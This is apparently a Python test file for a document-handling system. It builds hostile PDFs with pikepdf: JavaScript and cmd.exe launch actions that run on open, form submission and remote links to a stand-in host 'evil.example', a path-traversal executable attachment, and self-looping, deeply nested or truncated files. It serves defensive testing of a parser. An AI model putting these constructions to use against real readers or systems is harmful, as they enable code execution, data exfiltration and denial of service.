"""PDF files that would act, lock, loop or fall apart."""

from __future__ import annotations

from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, String

from tests.documents.formats.pdf_samples import attach, pdf, saved, write_page
from tests.hostile.conftest import Road
from tests.hostile.sample import FILED, REFUSED, Sample

SHOWN_OR_NOT = f"{FILED}|{REFUSED}"


def acting(number: int, **action: object) -> bytes:
    """A PDF that does something as it opens."""
    document = pikepdf.new()
    write_page(document, f"Page {number}")
    document.Root.OpenAction = Dictionary({"/Type": Name.Action, **{f"/{key}": value for key, value in action.items()}})
    return saved(document)


def with_form() -> bytes:
    """A form with a program on each key, and XFA beside."""
    document = pikepdf.new()
    write_page(document, "Formulaire")
    script = Dictionary(S=Name.JavaScript, JS=String("app.launchURL('http://evil.example')"))
    field = document.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), V=String("b"), Rect=[0, 0, 99, 20],
            AA=Dictionary(K=script, F=script),
        )
    )  # fmt: skip
    document.pages[0].Annots = Array([field])
    document.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=document.make_stream(b"<xdp:xdp/>"))
    return saved(document)


def with_attachment() -> bytes:
    document = pikepdf.new()
    write_page(document, "Pièce jointe")
    attach(document, "../../facture.exe", b"MZ\x90\0" * 100, "application/x-msdownload")
    return saved(document)


def encrypted(**passwords: str) -> bytes:
    document = pikepdf.new()
    write_page(document, "Secret")
    return saved(document, encryption=Encryption(**passwords))  # type: ignore[arg-type]


def looping() -> bytes:
    """A tree of pages that holds itself."""
    document = pikepdf.new()
    write_page(document, "Boucle")
    document.Root.Pages.Kids.append(document.Root.Pages)
    document.Root.Pages.Count = 2
    return saved(document)


def nested() -> bytes:
    """An array in an array in an array…"""
    return pdf("Imbriqué").replace(b"/MediaBox [ 0 0 595 842 ]", b"/MediaBox " + b"[" * 100_000)


def vast() -> bytes:
    document = pikepdf.new()
    write_page(document, "Vaste", (14_400_000, 14_400_000))
    return saved(document)


def samples() -> Iterator[Sample]:
    whole = pdf("Bonjour", "Deux", "Trois")
    yield Sample("javascript.pdf", acting(1, S=Name.JavaScript, JS=String("app.alert(1)")), FILED)
    yield Sample("launch.pdf", acting(2, S=Name.Launch, F=String("cmd.exe")), FILED)
    yield Sample("uri.pdf", acting(3, S=Name.URI, URI=String("http://evil.example/")), FILED)
    yield Sample("submit.pdf", acting(4, S=Name.SubmitForm, F=String("http://evil.example/")), FILED)
    yield Sample("remote.pdf", acting(5, S=Name.GoToR, F=String("\\\\evil.example\\a"), D=Array([0, Name.Fit])), FILED)
    yield Sample("form.pdf", with_form(), FILED)
    yield Sample("attachment.pdf", with_attachment(), FILED)
    yield Sample("locked.pdf", encrypted(user="a", owner="b"), REFUSED, "pdf-encrypted")
    yield Sample("owned.pdf", encrypted(user="", owner="b"), SHOWN_OR_NOT)
    yield Sample("xref.pdf", whole[: whole.rindex(b"startxref")] + b"startxref\n999999999\n%%EOF", SHOWN_OR_NOT)
    yield Sample("cut.pdf", whole[: len(whole) // 2], SHOWN_OR_NOT)
    yield Sample("head.pdf", b"%PDF-1.7\n%%EOF", REFUSED, "pdf-broken")
    yield Sample("looping.pdf", looping(), SHOWN_OR_NOT)
    yield Sample("nested.pdf", nested(), SHOWN_OR_NOT)
    yield Sample("vast.pdf", vast(), SHOWN_OR_NOT)
    yield Sample("noise.pdf", whole[:200] + bytes(range(256)) * 40 + whole[200:], SHOWN_OR_NOT)


def test_pdf(road: Road) -> None:
    road.takes(samples())
